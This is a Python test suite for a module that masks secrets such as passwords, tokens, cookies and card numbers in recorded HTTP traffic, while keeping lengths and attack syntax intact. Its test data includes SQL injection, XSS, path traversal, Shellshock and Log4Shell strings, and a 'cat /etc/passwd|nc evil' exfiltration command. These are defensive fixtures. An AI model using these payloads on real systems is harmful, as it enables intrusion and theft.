"""The rule book of masking: what is hidden, what stays, and what must hold for any record at all."""

import base64
import bz2
import gzip
import json
import lzma
import re
import zlib
from collections.abc import Callable, Iterator
from urllib.parse import quote, unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from classifier.masking import mask, mask_body, mask_header, mask_path, mask_text
from classifier.records import BODY_CAP, REPLY_CAP, FlowRecord
from classifier.tokens import luhn

PASSWORD = "Hunter7-Zebra!Qx"
CARD = "4111111111111111"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("path", "masked"),
    [
        ("/login?user=bob&password=Hunter7-Zebra", "/login?user=bob&password=xxxxxx0-xxxxx"),
        ("/login?password=a;b#c?d=e", "/login?password=x;x#x?x=x"),
        ("/login?password=%53%65cret%21", "/login?password=%78%78xxxx%21"),
        ("/login?password=%2553ecret%2521", "/login?password=%2578xxxxx%2521"),
        ("/login?password=%u0053&pass=%C3%A9", "/login?password=%u0078&pass=%78%78"),
        ("/a;jsessionid=ABC123?q=author", "/a;jsessionid=xxx000?q=author"),
        (
            "/a?next=https%3A%2F%2Fbob%3Apw9%40h%2F%3Ftoken%3Dabc",
            "/a?next=https%3A%2F%2Fxxx%3Axx0%40h%2F%3Ftoken%3Dxxx",
        ),
        ("/q?data=%7B%22pin%22%3A%22a1%20b%22%7D", "/q?data=%7B%22pin%22%3A%22x0%20x%22%7D"),
        ("/q?u=b%3Fsid%3DAbC1dEf2GhI3jKl4MnO5", "/q?u=b%3Fsid%3Dxxx0xxx0xxx0xxx0xxx0"),
        ("/q?data=%257B%2522pin%2522%253A%2522a1%2522%257D", "/q?data=%257B%2522pin%2522%253A%2522x0%2522%257D"),
        ("/pay?n=4111%201111%201111%201111", "/pay?n=1000%200000%200000%200000"),
        ("/mail?to=ann.lee%40example.com", "/mail?to=xxx.xxx%40example.com"),
    ],
)
def test_in_a_path_secrets_become_symbols(path: str, masked: str) -> None:
    assert mask_path(path) == masked


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "*",
        "/wp-content/uploads/2019/05/how-to-do-it-in-10-steps.html",
        "/products/running-shoes-2023.html?color=red&size=42&utm_source=newsletter",
        "/search?q=author+keyword&page=2&sort_key=price",
        "/api/v1/users/1234567/getUserProfileInformation",
        "/archive/2024-01-02T10:11:12?ts=1712345678901",
        "/item.php?id=1'+union+select+username,password+from+users--",
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "/x?f=Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
        "/x?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/uploads/2021/01/yoda-1-scaled-300x300.jpg",
        "/p?bucket=lifestyle-US-en-US-def",
        "/x?id=-1+union+select+concat(0x7873716C696E6A626567696E,version())",
    ],
)
def test_a_path_without_secrets_stays(path: str) -> None:
    assert mask_path(path) == path


@pytest.mark.parametrize(
    ("body", "masked"),
    [
        ('{"password":"a\\nb\\u0041\\\\c"}', '{"password":"x\\nx\\u0078\\\\x"}'),
        ('{"n":4111111111111111}', '{"n":1000000000000000}'),
        ("user=bob&password=a b;c%26d", "user=bob&password=x x;x%26x"),
        (
            r'{"a":"hi\npin: 12\nann@h.org\nAKIAIOSFODNN7EXAMPLE"}',
            r'{"a":"hi\npin: 10\nxxx@h.org\nxxxxxxxxxxxx0xxxxxxx"}',
        ),
    ],
)
def test_in_a_body_secrets_become_symbols(body: str, masked: str) -> None:
    assert mask_body(body.encode()).decode() == masked


@pytest.mark.parametrize(
    "body",
    [
        "plain words, 2024-01-02, 3.14, +49 30 1234567",
        '{"author":"bob","keyword":"shoes","n":4111111111111112,"t":1712345678901}',
        "<html><body class='main'><p>Forgot your password?</p></body></html>",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "id=1' or '1'='1&page=2",
        "<pre><code class='css'>color-scheme: dark;</code></pre>",
    ],
)
def test_a_body_without_secrets_stays(body: str) -> None:
    assert mask_body(body.encode()).decode() == body


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress, bz2.compress, lzma.compress])
def test_of_a_compressed_body_only_the_start_and_the_length_stay(pack: Callable[[bytes], bytes]) -> None:
    body = pack(b"password=" + bytes(range(256)) * 4)
    assert mask_body(body) == body[:16] + bytes(len(body) - 16)


@pytest.mark.parametrize("magic", [b"\x1f\x8b\x08", b"PK\x03\x04", b"\x28\xb5\x2f\xfd", b"x\x9c", b"Rar!\x1a\x07"])
def test_behind_a_mere_magic_number_a_body_is_text(magic: bytes) -> None:
    assert mask_body(magic + b"=1&id=1' or 2=2&pin=12") == magic + b"=1&id=1' or 2=2&pin=00"


@pytest.mark.parametrize(
    ("name", "value", "masked"),
    [
        ("Authorization", "Basic " + b64("bob:pw9"), "Basic " + b64("xxx:xx0")),
        ("proxy-authorization", "basic " + b64("bob:pw9"), "basic " + b64("xxx:xx0")),
        ("Authorization", "Bearer abc1", "Bearer xxx0"),
        ("Authorization", 'Digest username="bob", nonce="a1"', 'Digest username="xxx", nonce="x0"'),
        ("Cookie", "theme=dark; sid=a1B2", "theme=xxxx; sid=x0x0"),
        ("Cookie", "bare", "xxxx"),
        ("Set-Cookie", "sid=a1; Path=/app; HttpOnly; Max-Age=60", "sid=x0; Path=/app; HttpOnly; Max-Age=60"),
        ("X-Api-Key", "a1-b2", "x0-x0"),
        ("WWW-Authenticate", 'Digest realm="r", nonce="a1"', 'Digest realm="r", nonce="x0"'),
        ("Referer", "https://bob:pw9@h/x?token=a1&q=2", "https://xxx:xx0@h/x?token=x0&q=2"),
        ("X-Request-Id", "550e8400-e29b-41d4-a716-446655440000", "000x0000-x00x-00x0-x000-000000000000"),
        ("Host", "a1b2c3d4e5f6a7b8c9d0e1f2.example.com", "a1b2c3d4e5f6a7b8c9d0e1f2.example.com"),
        ("Accept", "text/html,application/xhtml+xml;q=0.9", "text/html,application/xhtml+xml;q=0.9"),
        ("User-Agent", "() { :; }; /bin/cat /etc/passwd", "() { :; }; /bin/cat /etc/passwd"),
    ],
)
def test_in_a_header_secrets_become_symbols(name: str, value: str, masked: str) -> None:
    assert mask_header(name, value) == masked


@pytest.mark.parametrize(
    ("attack", "masked"),
    [
        ("' or 1=1 --", "' or 0=0 --"),
        ("x' UNION SELECT null,sleep(5) FROM t--", "x' UNION SELECT null,sleep(0) FROM x--"),
        ("%27%20oR%201%3D1", "%27%20oR%200%3D0"),
        ("%2527%2520%2575nion", "%2527%2520%2575nion"),
        ("<script>alert(1)</script>", "<script>alert(0)</script>"),
        ("\\u003cscript\\u003e", "\\u003cscript\\u003e"),
        ("&#60;s&#99;ript&#x3e;&lt;img", "&#60;s&#99;ript&#x3e;&lt;img"),
        ("../../../etc/passwd", "../../../etc/passwd"),
        (";cat /etc/passwd|nc evil 99", ";cat /etc/passwd|nc xxxx 00"),
        ("${jndi:ldap://evil/a}", "${jndi:ldap://xxxx/x}"),
        (b64("../../../etc/passwd"), b64("../../../etc/passwd")),
        (b64("' or secret7=1 --"), b64("' or xxxxxx0=0 --")),
        (b64("hunter7 zebra"), "xxxxxxxxxxx0xxxxxx=="),
        (b"../../../etc/passwd".hex(), b"../../../etc/passwd".hex()),
        (f"0x{b"' or secret7=1 --".hex().upper()}", f"0x{b"' or xxxxxx0=0 --".hex().upper()}"),
        (b"hunter7 zebra".hex(), re.sub("[a-f]", "x", re.sub("[0-9]", "0", b"hunter7 zebra".hex()))),
        ("admin", "xxxxx"),
    ],
)
def test_an_attack_in_a_secret_keeps_its_syntax(attack: str, masked: str) -> None:
    masked_text = mask_text(attack, secret=True)
    assert masked_text == masked
    for written in (mask_path(f"/?password={attack}"), mask_body(f"a=1&pwd={attack}".encode()).decode()):
        assert written.endswith(masked_text)


def b64_form(text: str) -> str:
    return quote(b64(text), safe="")


# Where a secret may be written (each with one %s), and how it may be written there.
QUERIES = [
    "/a?password=%s",
    "/a?x=1&access_token=%s&y=2",
    "/a;jsessionid=%s?x=1",
    "/a?u=http%%3A%%2F%%2Fb%%3Fsid%%3D%s",
]
BODIES = [
    "user=bob&password=%s",
    "user=bob&user%%5Bpin%%5D=%s&x=1",
    '{"user": "bob", "password": "%s"}',
    '{"a": [{"b": {"apiKey": "%s"}}]}',
    '{"secrets": {"a": ["x", "%s"]}}',
    '{"json": "{\\"password\\": \\"%s\\"}"}',
    '{"json": "{\\"j\\": \\"{\\\\\\"token\\\\\\": \\\\\\"%s\\\\\\"}\\"}"}',
    '{"name": "password", "value": "%s"}',
    "data=%%7B%%22password%%22%%3A%%22%s%%22%%7D",
    "<login><password>%s</password></login>",
    "<login token='%s'/>",
    '<input type="hidden" name="csrf" value="%s">',
    '--b\r\nContent-Disposition: form-data; name="passwd"\r\n\r\n%s\r\n--b--',
    '--b\r\nContent-Disposition: form-data; name="pin"\r\nContent-Type: text/plain\r\n\r\n%s\r\n--b--',
    "password: %s",
    "see https://bob:%s@site/",
]
HEADERS = [
    ("Cookie", "a=b; sid=%s"),
    ("Set-Cookie", "sid=%s; Path=/"),
    ("Authorization", "Bearer %s"),
    ("X-Auth-Token", "%s"),
    ("Referer", "https://site/a?token=%s&x=1"),
]
WRITTEN: dict[str, Callable[[str], str]] = {
    "plain": str,
    "percent": quote,
    "double percent": lambda text: quote(quote(text)),
    "base64": b64_form,
}


def everywhere(secret: str) -> list[FlowRecord]:
    """A record for every place a secret may be written to."""
    return [
        *[FlowRecord(path=place % secret) for place in QUERIES],
        *[FlowRecord(request_body=(place % secret).encode()) for place in BODIES],
        *[FlowRecord(response_body=(place % secret).encode(), message=(place % secret).encode()) for place in BODIES],
        *[FlowRecord(request_headers=((name, place % secret),)) for name, place in HEADERS],
        FlowRecord(request_headers=(("Authorization", "Basic " + b64(f"bob:{unquote(secret)}")),)),
    ]


def readings(record: FlowRecord) -> str:
    """All that can be read in a record: as it is, percent-decoded up to three times, base64-decoded up to twice."""
    texts = [record.path, *[value for _, value in (*record.request_headers, *record.response_headers)]]
    texts += [body.decode("latin-1") for body in (record.request_body, record.response_body, record.message)]
    for _ in range(3):
        texts = list({*texts, *[unquote(text, "latin-1") for text in texts]})
    once = [plain for text in texts for plain in unbase64(text)]
    return "\n".join([*texts, *once, *(plain for text in once for plain in unbase64(text))])


def unbase64(text: str) -> Iterator[str]:
    """What every run may stand for as base64, wherever it begins."""
    for run in re.findall(r"[A-Za-z0-9+/_-]{4,}", text):
        for start in range(min(4, len(run))):
            whole = run[start : -1 if (len(run) - start) % 4 == 1 else None].replace("-", "+").replace("_", "/")
            yield base64.b64decode(whole + "=" * (-len(whole) % 4)).decode("latin-1")


def parts(secret: str) -> list[str]:
    return re.findall("[A-Za-z0-9]{4,}", secret)


@pytest.mark.parametrize("how", WRITTEN)
@pytest.mark.parametrize("secret", [PASSWORD, "correct.horse.battery", JWT, CARD, "0a1b2c3d4e5f60718293a4b5c6d7e8f9"])
def test_no_part_of_a_planted_secret_can_be_read(secret: str, how: str) -> None:
    for record in everywhere(WRITTEN[how](secret)):
        found = readings(mask(record))
        assert any(part in readings(record) for part in parts(secret)), "the search would find it unmasked"
        assert not [part for part in parts(secret) if part in found], record


@pytest.mark.parametrize("number", [CARD, "5555555555554444", "378282246310005", "6011111111111117", "4222222222222"])
@pytest.mark.parametrize("separator", ["", " ", "-", "%20", "+", "%2D", "\\u0020"])
def test_no_card_number_can_be_read_anywhere(number: str, separator: str) -> None:
    assert luhn(number)
    groups = separator.join(re.findall(".{1,4}", number))
    for place in ("/a?q=%s", "/a/%s/b", "/a?q=3%%20times%%20%s"):
        assert number[:6] not in re.sub("[^0-9]", "", unquote(mask_path(place % groups)))
    for place in ('{"n": "%s"}', "q=%s&x=1", "<n>%s</n>", "number %s valid 12/29", '["2024-01-02", "%s"]'):
        masked = mask_body((place % groups).encode()).decode()
        assert number[:6] not in re.sub("u0020|[^0-9]", "", unquote(masked))


@pytest.mark.parametrize("body", ['{"pin": 12, "password": "a\\"b", "tokens": [1, {"a": "b"}], "n": 4111111111111111}'])
def test_json_stays_json(body: str) -> None:
    masked = json.loads(mask_body(body.encode()))
    assert masked == {"pin": 10, "password": 'x"x', "tokens": [1, {"a": "x"}], "n": 1000000000000000}


# Texts that look like traffic break more rules than random ones.
FRAGMENTS = st.sampled_from(
    r"""password token= pin: key code "secret" \"sid\" <token> </token> name="csrf" value=" Basic Bearer
    %41 %27 %2541 %2527 %253 %u0041 %C3 \u0041 \u0027 \x41 \n &#65; &#x4 &#39; &amp; &quot; select or <script
    ../ Li4vLi4v dXNlcjpwYXNz Jz0nIG9yIA== aHVudGVyMg AbC123xYz 0a1b2c3d4e5f AKIAIOSFODNN7EXAMPLE eyJhbGciOi.a.b
    4111111111111111 4111 1111 12 7 0 1 x X é 日 // @ ? & ; = : , . - _ + / % \ ' " { } [ ] ( ) < > # $""".split()
)
BLANKS = st.sampled_from(
    [" ", "\r\n", "\n--b", "\x00", "\x85", "-----BEGIN PRIVATE KEY-----", 'Content-Disposition: a; name="pin"\r\n\r\n']
)
TEXTS = st.one_of(st.text(max_size=60), st.lists(st.one_of(FRAGMENTS, FRAGMENTS, BLANKS), max_size=25).map("".join))
RAW = st.one_of(st.binary(max_size=60), TEXTS.map(lambda text: text.encode("utf-8", "surrogatepass")))
NAMES = st.one_of(st.sampled_from(["Cookie", "Set-Cookie", "Authorization", "X-Api-Key", "Referer", "Host"]), TEXTS)
LISTS = st.lists(st.tuples(NAMES, TEXTS), max_size=4).map(tuple)
RECORDS = st.builds(
    FlowRecord,
    path=TEXTS,
    request_headers=LISTS,
    response_headers=LISTS,
    request_body=RAW,
    response_body=RAW,
    message=RAW,
)


@settings(deadline=None, max_examples=300)
@given(RECORDS)
def test_masking_twice_is_masking_once_and_keeps_every_length(record: FlowRecord) -> None:
    masked = mask(record)
    assert mask(masked) == masked
    assert (masked.host, masked.method) == (record.host, record.method)
    assert len(masked.path) == len(record.path)
    assert [len(value) for _, value in masked.request_headers] == [len(value) for _, value in record.request_headers]
    assert [name for name, _ in masked.response_headers] == [name for name, _ in record.response_headers]
    for name, cap in (("request_body", BODY_CAP), ("response_body", REPLY_CAP), ("message", BODY_CAP)):
        assert len(getattr(masked, name)) == min(len(getattr(record, name)), cap)


@settings(deadline=None, max_examples=300)
@given(TEXTS, st.booleans())
@example("&#65;&#97;&#0065;&#x00041;%2541", True)
@example("password=" * 40, False)
@example("\\" * 30 + "u0041", True)
@example("key:token:123", False)
def test_any_text_settles_at_its_own_length(text: str, secret: bool) -> None:
    masked = mask_text(text, secret=secret)
    assert len(masked) == len(text)
    assert mask_text(masked, secret=secret) == masked


@settings(deadline=None)
@given(
    st.text(
        st.characters(codec="ascii", categories=["L", "N", "P", "S"], exclude_characters="\\"), min_size=1, max_size=30
    )
)
def test_any_password_in_a_query_leaves_only_symbols_and_public_words(password: str) -> None:
    masked = unquote(mask_path("/login?password=" + quote(password, safe=""))).partition("=")[2]
    assert masked == mask_text(password, secret=True)


def test_a_record_without_secrets_is_returned_as_it_is() -> None:
    record = FlowRecord(host="a1b2c3d4e5f6a7b8c9d0e1f2.example", path="/a?b=c", request_headers=(("Accept", "*/*"),))
    assert mask(record) is record
